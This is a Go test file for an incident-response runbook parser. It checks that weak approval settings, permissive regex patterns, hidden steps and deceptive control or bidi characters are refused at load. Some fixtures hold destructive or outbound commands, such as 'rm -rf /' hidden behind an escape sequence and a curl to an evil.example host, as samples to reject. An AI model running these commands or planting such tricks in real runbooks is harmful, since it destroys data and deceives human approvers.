package runbooks

import (
	"errors"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
)

// TestAuthoringMistakes: each file loaded before without a word, and each weakened or
// broke the runbook in a way its author would learn of mid-incident. Each must now be
// refused at load, with the file and line and what to do.
func TestAuthoringMistakes(t *testing.T) {
	low := strings.Replace(okFront, "risk: high\nquorum: 2\napprovers: [containment]\n", "risk: low\n", 1)
	safeOK := "safe:\n  chain_id: 1\n  address: \"0x5aFE3855358E112B5647B952709E6165e1c1eEEe\"\n" +
		"  to: \"0x6B175474E89094C44Da98b954EedeAC495271d0F\"\n  function: \"pause()\"\n"
	withSafe := func(from, to string) string {
		return runbook(okFront+strings.Replace(safeOK, from, to, 1), okBody)
	}
	tests := []struct {
		name, text string
		want       []string // all in the error
	}{
		// The known defect: the author meant a gate, and the step ran on one person's say.
		{"quorum with risk low", runbook(strings.Replace(okFront, "risk: high", "risk: low", 1), okBody),
			[]string{"t.md:5: quorum: 2 is ignored with risk: low", "set risk: high", "remove quorum"}},
		{"quorum alone with risk low", runbook(low+"quorum: 3\n", okBody),
			[]string{"t.md:9: quorum: 3 is ignored with risk: low"}},
		{"approvers with risk low", runbook(low+"approvers: [containment, triage]\n", okBody),
			[]string{"t.md:9: approvers are ignored with risk: low", "set risk: high", "remove approvers"}},
		{"approvers and quorum 0 with risk low", runbook(low+"quorum: 0\napprovers: [triage]\n", okBody),
			[]string{"t.md:10: approvers are ignored with risk: low"}},

		// A second pattern line won over the first, unseen.
		{"pattern twice", runbook(strings.Replace(okFront, "'^[a-z]+$'\n", "'^[a-z]+$'\n    pattern: '^.+$'\n", 1), okBody),
			[]string{"t.md:11: param v: pattern is set twice (first at line 10)"}},
		{"description twice", runbook(strings.Replace(okFront, "    description: d\n", "    description: d\n    description: e\n", 1), okBody),
			[]string{"t.md:10: param v: description is set twice (first at line 9)"}},
		{"merge key", runbook(okFront+"  w:\n    <<: *p\n", okBody),
			[]string{"t.md:12: front matter: a merge key (<<)", "write the fields out"}},

		// Patterns that check nothing, refuse every value, or let a line break through.
		{"any value", withPattern("'^.+$'"), []string{"t.md:10: param v: pattern ^.+$ accepts any value, so it checks nothing"}},
		{"any value in a group", withPattern("'^(.{1,})$'"), []string{"accepts any value"}},
		{"any value in a class", withPattern(`'^[\s\S]+$'`), []string{"accepts any value"}},
		{"empty value", withPattern("'^[a-z]*$'"), []string{"t.md:10: param v: pattern ^[a-z]*$ accepts an empty value", "require a character"}},
		{"only the empty value", withPattern("'^$'"), []string{"accepts an empty value"}},
		{"optional group", withPattern("'^([a-z]+)?$'"), []string{"accepts an empty value"}},
		{"line break in a negated class", withPattern("'^[^;&|]+$'"), []string{"t.md:10: param v: pattern ^[^;&|]+$ accepts a line break"}},
		{"line break through \\s", withPattern(`'^[a-z\s]+$'`), []string{"accepts a line break", `instead of \s`}},
		{"line break through (?s)", withPattern(`'(?s)^[a-z]+.[a-z]+$'`), []string{"accepts a line break"}},
		{"start of text after text", withPattern("'^[a-z]+^[0-9]+$'"), []string{"t.md:10: param v: pattern ^[a-z]+^[0-9]+$ matches no value at all"}},
		{"end of text before text", withPattern("'^[a-z]+$[0-9]+$'"), []string{"matches no value at all"}},

		// A declared param nothing uses: ssh $HOST or {host} where {{host}} was meant.
		{"param unused", runbook(okFront+"  host:\n    description: h\n    pattern: '^[a-z]+$'\n", okBody),
			[]string{"t.md:11: param host is declared but no step uses it", "write {{host}}", "remove the param"}},
		{"param in single braces", runbook(strings.Replace(okFront, "  v:", "  host:", 1), "1. Do\n   ```sh\n   ssh {host} uptime\n   ```\n"),
			[]string{"t.md:8: param host is declared but no step uses it"}},

		// A safe: block's fixed values, checked when the pause was needed.
		{"safe address short", withSafe("0x5aFE3855358E112B5647B952709E6165e1c1eEEe", "0x5aFE3855358E112B5647B952709E6165e1c1eEE"),
			[]string{"t.md:13: safe.address:", "40 hex digits", "or a {{param}}"}},
		{"safe to not an address", withSafe("0x6B175474E89094C44Da98b954EedeAC495271d0F", "dai.eth"), []string{"t.md:14: safe.to:"}},
		{"safe chain id in hex", withSafe("chain_id: 1", "chain_id: 0x1"), []string{"t.md:12: safe.chain_id \"0x1\" is not a chain id"}},
		{"safe chain id zero", withSafe("chain_id: 1", "chain_id: 0"), []string{"is not a chain id"}},
		{"safe value in ether", withSafe("function", "value: 1e18\n  function"), []string{"t.md:15: safe.value \"1e18\" is not an amount of wei"}},
		{"safe args missing", withSafe("pause()", "revokeRole(bytes32,address)"), []string{"t.md:11: safe.args has 0 value(s) but revokeRole(bytes32,address) takes 2"}},
		{"safe args too many", withSafe("function: \"pause()\"", "function: \"pause()\"\n  args: [\"{{v}}\"]"), []string{"t.md:16: safe.args has 1 value(s) but pause() takes 0"}},
		{"safe delegatecall allowed but not made", withSafe("function", "allow_delegatecall: true\n  function"),
			[]string{"t.md:15: safe.allow_delegatecall is true but operation is call", "set operation: delegatecall"}},
		{"safe arg of the wrong type", withSafe("function: \"pause()\"", "function: \"setLimit(uint8)\"\n  args: [\"300\"]"), []string{"t.md:16: safe.args:"}},

		// Limits of the proposal event, met only at propose time.
		{"command too long", withCommand("echo {{v}} " + strings.Repeat("x", MaxCommand)), []string{"t.md:14: step 1: the command is 8203 bytes and a proposal carries at most 8192"}},
		{"id too long", runbook(strings.Replace(okFront, "id: t", "id: "+strings.Repeat("a", 101), 1), okBody), []string{"t.md:2: id is 101 characters and a proposal carries at most 100"}},

		// A step disabled with an HTML comment: hidden in every rendering, still proposable.
		{"step in a comment", runbook(okFront, okBody+"<!--\n2. Wipe (disabled)\n   ```sh\n   rm -rf /srv/{{v}}\n   ```\n-->\n"),
			[]string{"t.md:17: a step or code block inside the HTML comment opened at line 16", "delete it"}},
		{"code block in a comment", runbook(okFront, "1. Do\n<!-- old command:\n   ```sh\n   echo {{v}}\n   ```\n-->\n"),
			[]string{"t.md:14: a step or code block inside the HTML comment opened at line 13"}},

		// What the approvers see must be what runs.
		{"carriage return mid-command", withCommand("rm -rf /srv/{{v}}\r echo {{v}}"), []string{"t.md:14: step 1: the command holds U+000D at byte 17, a control character", "retype it"}},
		{"escape sequence", withCommand("echo {{v}} \x1b[8m; rm -rf /"), []string{"U+001B", "a control character"}},
		{"bidi override", withCommand("echo {{v}} \u202e/ fr- mr"), []string{"U+202E", "invisible formatting character"}},
		{"zero-width space", withCommand("curl https://evil\u200b.example/{{v}}"), []string{"U+200B"}},
		{"no-break space", withCommand("ssh\u00a0{{v}} uptime"), []string{"U+00A0", "does not split words on"}},
		{"invalid UTF-8", withCommand("echo {{v}} \xff"), []string{"not valid UTF-8"}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			text := tc.text
			if tc.name == "merge key" {
				text = strings.Replace(text, "  v:\n", "  v: &p\n", 1)
			}
			_, err := Parse("t.md", []byte(text))
			var pe *ParseError
			if !errors.As(err, &pe) {
				t.Fatalf("got %v, want a *ParseError\n%s", err, text)
			}
			for _, w := range tc.want {
				if !strings.Contains(err.Error(), w) {
					t.Errorf("error %q lacks %q", err, w)
				}
			}
			if strings.Contains(err.Error(), "\n") {
				t.Errorf("error spans lines: %q", err)
			}
		})
	}
}

// TestAuthoringStillAccepted: what the checks must not refuse. The embedded library
// has risk: low with quorum: 0, patterns with bounded printable classes, and params
// only the safe: block uses.
func TestAuthoringStillAccepted(t *testing.T) {
	for name, text := range map[string]string{
		"low with quorum 0":       runbook(strings.Replace(okFront, "risk: high\nquorum: 2\napprovers: [containment]\n", "risk: low\nquorum: 0\n", 1), okBody),
		"printable class":         withPattern(`'^[^\x00-\x1f\x7f]{1,200}$'`),
		"alternation":             withPattern(`'^([a-z]+|https?://[A-Za-z0-9.:/_-]+)$'`),
		"space but no newline":    withPattern(`'^[a-z ]+$'`),
		"dot without (?s)":        withPattern(`'^x.y$'`),
		"closed comments":         runbook(okFront, "<!-- a note -->\n1. Do <!-- inline -->\n<!--\nreviewed by bob\n-->\n   ```sh\n   echo {{v}}\t# tab ok\n   ```\n"),
		"comment in a command":    withCommand("echo {{v}} '<!--'"),
		"unicode in a command":    withCommand("printf 'café %s\\n' {{v}}"),
		"param only in safe":      runbook(safeFront, "1. Print\n   ```sh\n   cast send {{target}} 'pause()'\n   ```\n"),
		"safe fixed values ok":    runbook(okFront+"safe:\n  chain_id: 1\n  address: 0x5aFE3855358E112B5647B952709E6165e1c1eEEe\n  to: \"{{v}}\"\n  function: \"setLimit(uint8)\"\n  args: [\"200\"]\n  value: \"0\"\n", okBody),
		"alias of a list (no <<)": runbook(strings.Replace(okFront, "approvers: [containment]", "approvers: &a [containment]", 1)+"severity: *a\n", okBody),
	} {
		if name == "alias of a list (no <<)" {
			// an alias resolves; severity is checked on what it points at
			if _, err := Parse("t.md", []byte(text)); err == nil || !strings.Contains(err.Error(), `severity "containment"`) {
				t.Errorf("%s: %v", name, err)
			}
			continue
		}
		if _, err := Parse("t.md", []byte(text)); err != nil {
			t.Errorf("%s: %v", name, err)
		}
	}
}

// FuzzPatternChecks: the pattern checks never refuse on a wrong premise. A pattern said to
// match nothing matches no value; one with no complaint accepts neither the empty value
// nor a value with a line break.
func FuzzPatternChecks(f *testing.F) {
	for _, s := range [][2]string{
		{`^[a-z]+$`, "abc"}, {`^.+$`, "x"}, {`^[^;]+$`, "a\nb"}, {`^a^b$`, "ab"}, {`^a$b$`, "ab"},
		{`(?s)^x.y$`, "x\ny"}, {`^(a|)$`, ""}, {`^\b[a-z]+\b$`, "ab"}, {`^(?i)K+$`, "\u212a"}, {`^[\s\S]{1,5}$`, "a\n"},
	} {
		f.Add(s[0], s[1])
	}
	f.Fuzz(func(t *testing.T, pattern, value string) {
		re, err := regexp.Compile(pattern)
		if err != nil || len(pattern) > 200 || !anchored(pattern) { // Parse refuses an unanchored one first
			return
		}
		why := patternProblem(re)
		matches := re.MatchString(value)
		switch {
		case strings.HasPrefix(why, "matches no value") && matches:
			t.Fatalf("%s: said to match nothing, matches %q", pattern, value)
		case why == "" && re.MatchString(""):
			t.Fatalf("%s: no complaint, accepts the empty value", pattern)
		case why == "" && matches && strings.ContainsRune(value, '\n'):
			t.Fatalf("%s: no complaint, accepts %q", pattern, value)
		}
	})
}

// TestLoadSkipsHiddenFiles: an editor's lock file (emacs's .#x.md, a link to nowhere, there
// while a teammate edits x.md) and macOS's ._x.md beside each file on a FAT stick failed
// runbook list and warned on every command; the runbook itself loads.
func TestLoadSkipsHiddenFiles(t *testing.T) {
	dir := t.TempDir()
	write := func(name, text string) {
		t.Helper()
		if err := os.WriteFile(filepath.Join(dir, name), []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	write("host.md", strings.Replace(cliExample, "id: host-quarantine", "id: our-quarantine", 1))
	write("._host.md", "\x00\x05\x16\x07\x00\x02\x00\x00Mac OS X        ")
	if err := os.Symlink("alice@laptop.4242:1765000000", filepath.Join(dir, ".#host.md")); err != nil {
		t.Fatal(err)
	}
	lib, err := Load(dir)
	if err != nil {
		t.Fatalf("Load: %v", err)
	}
	if _, ok := lib.Get("our-quarantine"); !ok {
		t.Fatal("the runbook beside the hidden files did not load")
	}
}
